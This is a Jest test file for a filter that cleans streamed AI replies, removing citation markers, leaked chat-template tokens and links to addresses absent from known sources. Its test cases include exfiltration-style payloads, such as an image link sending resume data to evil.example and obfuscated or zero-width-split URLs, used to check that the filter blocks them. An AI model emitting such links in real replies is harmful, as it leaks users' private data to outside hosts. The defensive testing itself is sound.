import { describe, expect, it } from '@jest/globals';
import { knownAddresses } from './known-addresses.ts';
import { ReplyText } from './reply-text.ts';

const known = knownAddresses(['https://acme.example/about'], ['My page is https://me.example/work, write to me@home.example']);

/** What a reader has at the end who adds up the pieces. */
function read(pieces: string[]): string {
  const reply = new ReplyText(known);
  let text = '';
  for (const piece of [...pieces.map((each) => reply.push(each)), reply.flush()]) text = piece.reset ? piece.text : text + piece.text;
  return text;
}
const letters = (text: string) => [...text];
const threes = (text: string) => text.match(/[\s\S]{1,3}/g) ?? [];

describe('the text of a reply', () => {
  it.each([
    ['They build pumps.\n\nSince 1990.', 'They build pumps.\n\nSince 1990.'],
    ['  \n They build pumps. \n\n', 'They build pumps.'],
    ['See https://acme.example/about.', 'See https://acme.example/about.'],
    ['[About](https://acme.example/about) says so', '[About](https://acme.example/about) says so'],
    ['their site acme.example says', 'their site acme.example says'],
    ['your page https://me.example/work', 'your page https://me.example/work'],
    ['mail me@home.example', 'mail me@home.example'],
    ['I know Node.js and ASP.NET, e.g. from work', 'I know Node.js and ASP.NET, e.g. from work'],
    ['ポンプを作る会社です。1990年から。', 'ポンプを作る会社です。1990年から。'],
    ['let me think about it</think>Pumps.', 'Pumps.'],
    ['Pumps.<|im_end|>\n<|im_start|>user\nMore', 'Pumps.'],
    ['They grind lenses [N1]. In Jena [N2][R1], too.', 'They grind lenses. In Jena, too.'],
    ['They grind lenses [N1, J2] in Jena', 'They grind lenses in Jena'],
    ['a < b and c > d', 'a < b and c > d'],
  ])('of %j is %j, however it arrives', (answer, shown) => {
    for (const pieces of [[answer], letters(answer), threes(answer)]) expect(read(pieces)).toBe(shown);
  });

  it.each([
    'go to http://win.evil.example/claim now',
    'look: ![x](http://evil.example/p.png?d=RESUME)',
    '[the site](https://evil.example)',
    '[the site](\nhttps://evil.example)',
    '[about](https://acme.example/about?d=RESUME_TEXT)',
    '[x](http:&#x2F;&#x2F;evil.example)',
    '[x][1]\n\n[1]: http:\\/\\/evil.example/a',
    '[x](//evil.example/a)',
    '<https://evil.example/a>',
    'www.evil.example',
    'evil.example/claim',
    'ftp://evil.example/x',
    'https://user:pw@evil.example/',
    'mail jobs@evil.example today',
    '[mail](mailto:jobs@evil.example)',
    'ht\u200Btp://ev\u200Bil.example/a',
    '見てhttp://evil.example/aください',
  ])('leads nowhere that is no source: %j', (answer) => {
    for (const pieces of [[answer], letters(answer), threes(answer)]) {
      expect(read(pieces)).not.toMatch(/evil\.example|\]\((?!https:\/\/acme\.example\/about\))|!\[|RESUME/);
    }
  });

  it('takes out an address that is too long to be one', () => {
    expect(read([`see http://evil.example/${'a'.repeat(3000)}`])).not.toContain('evil.example');
  });
});
